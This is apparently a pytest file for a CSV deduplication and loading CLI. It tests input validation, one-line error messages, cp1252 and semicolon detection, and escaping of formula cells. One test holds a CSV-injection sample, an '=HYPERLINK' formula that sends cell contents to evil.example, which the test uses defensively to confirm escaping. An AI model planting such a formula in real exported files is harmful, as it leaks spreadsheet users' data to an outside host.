"""dedupe-csv / load-csv inputs (issue 13 items 5 and 7, issue 10 item 5): every input checked before the
work starts with one clear line and status 2, bad files named by line and reason (no traceback), invalid
rows counted as rows, the encoding and separator said, formula cells escaped in the output."""
from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from data_platform.cli import main

HEADER = ["source", "identifiant_externe", "acteur_type", "nom", "adresse", "code_postal", "ville",
          "latitude", "longitude"]
EMMAUS = [["refashion", "R1", "commerce", "Emmaüs Connect", "12 av. Jean Jaurès", "01000", "Bourg-en-Bresse",
           "46.2052", "5.2255"],
          ["ecosystem", "E1", "commerce", "EMMAUS CONNECT", "12 avenue Jean Jaurès", "01000", "Bourg-en-Bresse",
           "46.2053", "5.2256"],
          ["refashion", "R2", "commerce", "Garage du Port", "1 quai Vauban", "20200", "Bastia", "", ""]]


def _csv(path: Path, header, rows, sep=",", encoding="utf-8") -> Path:
    with open(path, "w", newline="", encoding=encoding) as fh:
        writer = csv.writer(fh, delimiter=sep)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def _out_rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _fails(capsys, argv, status=2) -> str:
    assert main(argv) == status
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err + captured.out
    return captured.err


def test_every_cli_input_is_checked_before_the_work(tmp_path, database_url, capsys):
    good = _csv(tmp_path / "in.csv", HEADER, EMMAUS)
    out = str(tmp_path / "out.csv")
    cases = [
        (["dedupe-csv", str(tmp_path / "missing.csv"), "--out", out], "missing.csv: no such file"),
        (["dedupe-csv", str(tmp_path), "--out", out], "not a file"),
        (["dedupe-csv", str(good), "--out", out, "--threshold", "5"], "--threshold 5: 5.0 is outside [0, 1]"),
        (["dedupe-csv", str(good), "--out", str(tmp_path / "nofolder" / "out.csv")], "nofolder' does not exist"),
        (["dedupe-csv", str(good), "--out", str(tmp_path)], "is a folder"),
        (["dedupe-csv", str(good), "--out", str(good)], "is the input file"),
        (["dedupe-csv", str(good), "--out", "/sys/out.csv" if os.geteuid() == 0 else "/out.csv"], "cannot write in"),
        (["dedupe-csv", str(good), "--out", out, "--sep", ":"], "--sep ':'"),
        (["dedupe-csv", str(good), "--out", out, "--model", str(tmp_path / "nomodel.json")], "no such file"),
        (["dedupe-csv", str(good), "--out", out, "--model", str(good)], "not a saved match model"),
        (["load-csv", str(tmp_path / "missing.csv")], "missing.csv: no such file"),
        (["load-csv", str(good), "--sep", "x"], "--sep 'x'"),
    ]
    for argv, message in cases:
        err = _fails(capsys, argv)
        assert message in err, (argv, err)
        assert len(err.strip().splitlines()) == 1, err  # one clear line
    assert not (tmp_path / "out.csv").exists()


def test_required_columns_are_named(tmp_path, database_url, capsys):
    no_type = _csv(tmp_path / "in.csv", ["identifiant_externe", "nom"], [["A1", "X"]])
    err = _fails(capsys, ["dedupe-csv", str(no_type), "--out", str(tmp_path / "o.csv")])
    assert "line 1, field 'acteur_type': required column missing from the header (required: source, " \
           "identifiant_externe, acteur_type, nom)" in err and "nothing clustered" in err
    err = _fails(capsys, ["load-csv", str(no_type)])
    assert "field 'source': required column missing" in err and "field 'acteur_type'" in err


@pytest.mark.parametrize("data, message", [
    (b"", "line 1: the file is empty"),
    (b"source,identifiant_externe,acteur_type,nom\n", "the header has no rows"),
    (b'source,identifiant_externe,acteur_type,nom\nrefashion,A1,commerce,"Oops\nrefashion,A2,commerce,X\n',
     "line 2: a quoted value opened on this line is never closed"),
    ("source,identifiant_externe,acteur_type,nom\nrefashion,A1,commerce,Déchèterie\n".encode()
     + "refashion,A2,commerce,Déchèterie\n".encode("latin-1"), "line 3: not valid UTF-8 (byte 0xe9)"),
])
def test_bad_files_are_one_line_and_status_2(tmp_path, database_url, capsys, data, message):
    path = tmp_path / "bad.csv"
    path.write_bytes(data)
    err = _fails(capsys, ["dedupe-csv", str(path), "--out", str(tmp_path / "o.csv")])
    assert f"dedupe-csv: {path}: {message}" in err, err
    if data:  # load-csv reads with the same reader (a header-only file loads nothing and is no error there)
        assert main(["load-csv", str(path)]) in (0, 2)
        assert message in capsys.readouterr().err or "no rows" in message


def test_invalid_rows_are_counted_as_rows_with_editor_lines(tmp_path, database_url, capsys):
    rows = [EMMAUS[0], [], ["refashion", "R3", "commerce", "X", "", "ABCDE", "", "95", "4.2"], EMMAUS[1]]
    path = _csv(tmp_path / "in.csv", HEADER, rows)
    err = _fails(capsys, ["dedupe-csv", str(path), "--out", str(tmp_path / "o.csv")], status=1)
    assert f"dedupe-csv: {path}: 1 invalid row(s), 2 error(s), nothing clustered" in err
    assert "line 4, field 'code_postal': not a French postal code" in err and "line 4, field 'latitude'" in err
    err = _fails(capsys, ["load-csv", str(path)], status=1)
    assert "1 invalid row(s), 2 error(s)" in err and "line 4, field 'code_postal'" in err


def test_windows_1252_semicolon_file_is_clustered_and_said(tmp_path, database_url, capsys):
    path = _csv(tmp_path / "excel.csv", HEADER, EMMAUS, sep=";", encoding="cp1252")
    out = tmp_path / "out.csv"
    assert main(["dedupe-csv", str(path), "--out", str(out)]) == 0
    captured = capsys.readouterr()
    assert "read as Windows-1252 (cp1252), separator ';' (detected)" in captured.err
    assert '"read_as": "Windows-1252 (cp1252), separator \';\' (detected)"' in captured.out
    cluster = {r["identifiant_unique"]: r["cluster_id"] for r in _out_rows(out)}
    assert cluster["refashion_R1"] and cluster["refashion_R1"] == cluster["ecosystem_E1"]
    assert cluster["refashion_R2"] == ""


def test_formula_cells_are_escaped_in_dedupe_csv_output(tmp_path, database_url):
    """Issue 13 item 7: a file's own ids come back in the output; one that a spreadsheet would run as a
    formula is escaped, a negative number is not."""
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    header = ["identifiant_unique", "acteur_type", "nom", "adresse", "code_postal", "ville", "latitude", "longitude"]
    rows = [[hyperlink, *EMMAUS[0][2:]], ["-1.55", *EMMAUS[1][2:]], ["@SUM(1)", *EMMAUS[2][2:]]]
    path, out = _csv(tmp_path / "in.csv", header, rows), tmp_path / "out.csv"
    assert main(["dedupe-csv", str(path), "--out", str(out)]) == 0
    got = _out_rows(out)
    assert [r["identifiant_unique"] for r in got] == ["'" + hyperlink, "-1.55", "'@SUM(1)"]
    assert got[0]["cluster_id"] and got[0]["cluster_id"] == got[1]["cluster_id"] and got[2]["cluster_id"] == ""


def test_missing_file_from_the_shell_is_one_line_without_traceback(tmp_path):
    result = subprocess.run([sys.executable, "-m", "data_platform.cli", "dedupe-csv", str(tmp_path / "nope.csv"),
                             "--out", str(tmp_path / "o.csv")], check=False, capture_output=True, text=True)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr.strip() == f"dedupe-csv: {tmp_path / 'nope.csv'}: no such file"


def test_load_csv_reads_a_windows_1252_semicolon_file(db, tmp_path, capsys):
    """The same reader in load-csv: an Excel export (cp1252, ';', a blank line) loads with its accents."""
    path = tmp_path / "excel.csv"
    path.write_bytes("source;identifiant_externe;acteur_type;nom\r\n\r\nrefashion;A1;commerce;Déchèterie Œuvre\r\n"
                     .encode("cp1252"))
    assert main(["load-csv", str(path)]) == 0
    captured = capsys.readouterr()
    assert "read as Windows-1252 (cp1252), separator ';' (detected)" in captured.err
    assert '"inserted": 1' in captured.out
    with db.cursor() as cur:
        cur.execute("select identifiant_unique, nom from acteur")
        assert cur.fetchall() == [("refashion_A1", "Déchèterie Œuvre")]
    db.commit()
    assert main(["load-csv", str(path), "--sep", ","]) == 2
    assert "single column with separator ','" in capsys.readouterr().err
